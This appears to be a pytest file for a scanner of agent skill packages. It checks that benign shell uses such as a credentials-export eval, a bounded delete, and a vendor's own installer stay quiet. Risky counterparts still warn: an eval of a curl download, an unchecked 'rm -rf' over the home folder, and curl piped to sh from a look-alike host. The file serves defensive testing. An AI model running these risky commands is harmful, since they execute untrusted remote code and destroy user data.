"""Honest acts of the dev11 split that drew warnings, quieted by class, each beside the attack that still warns or
stops. Names and hosts are new: an eval of a cloud CLI's own environment export, a delete each target of which is
tested to lie under the folder the user names, an organisation's host with "dev" among its words, a product's
installer served from its maker's host in a Dockerfile."""

from __future__ import annotations

from skillscope.audit.behavior.vocab import lookalike_site
from skillscope.audit.findings import check_info
from skillscope.audit.text_scan import scan_text
from tests.audit.behavior.helpers import loud

RISKY = "skillscope/risky-shell"


def _risky(path: str, text: str) -> list[str]:
    """The effective severity of each risky-shell pattern the text scan finds."""
    return [
        hit.severity or check_info(hit.id).severity for hit in scan_text(text, path, markdown=False) if hit.id == RISKY
    ]


EXPORT = """#!/usr/bin/env bash
set -euo pipefail
profile=${1:?profile}
eval "$(aws configure export-credentials --profile "$profile" --format env)"
shift
exec "$@"
"""


def test_an_eval_of_a_cli_printing_this_shells_credentials_is_a_note():
    assert _risky("run.sh", EXPORT) == ["note"]


def test_an_eval_of_a_download_stays_a_warning():
    text = EXPORT.replace('aws configure export-credentials --profile "$profile" --format env', "curl -fsS $1")
    assert _risky("run.sh", text) == ["warning"]


SWEEP = """#!/usr/bin/env bash
root=${1:?usage: sweep.sh ROOT}
for d in "$root"/*/target; do
  [[ $d == "$root"/* && -d $d/debug ]] && rm -rf -- "$d"
done
"""
UNCHECKED = """#!/usr/bin/env bash
for d in "$HOME"/*/target; do
  rm -rf -- "$d"
done
"""


def test_a_delete_whose_target_is_tested_to_lie_under_the_named_folder_is_a_note():
    assert _risky("sweep.sh", SWEEP) == ["note"]


def test_the_same_delete_over_the_home_folder_without_the_test_warns():
    assert _risky("sweep.sh", UNCHECKED) == ["warning"]


def test_a_dev_word_inside_an_organisations_host_is_no_look_alike_but_a_known_brand_in_front_is():
    assert lookalike_site("feeds.dev.contoso-cloud.com") is None
    assert lookalike_site("github.dev.build-mirror.example") == "github.dev"
    assert lookalike_site("registry.npmjs.org.build-mirror.example") == "npmjs.org"


DOCKERFILE = """FROM debian:bookworm-slim
# ruff, installed with the standalone installer
RUN curl -LsSf URL | sh
RUN ruff --version
"""


PAGE = (
    "---\nname: ruff-image\ndescription: A container image with ruff installed, for linting in CI.\n---\n# ruff image\n"
)


def test_a_products_installer_from_its_makers_host_in_a_dockerfile_is_quiet():
    text = DOCKERFILE.replace("URL", "https://astral.sh/ruff/install.sh")
    assert loud({"SKILL.md": PAGE, "Dockerfile": text}) == []


def test_the_same_installer_from_another_host_is_not():
    text = DOCKERFILE.replace("URL", "https://astral-tools.example/ruff/install.sh")
    assert loud({"SKILL.md": PAGE, "Dockerfile": text}) != []
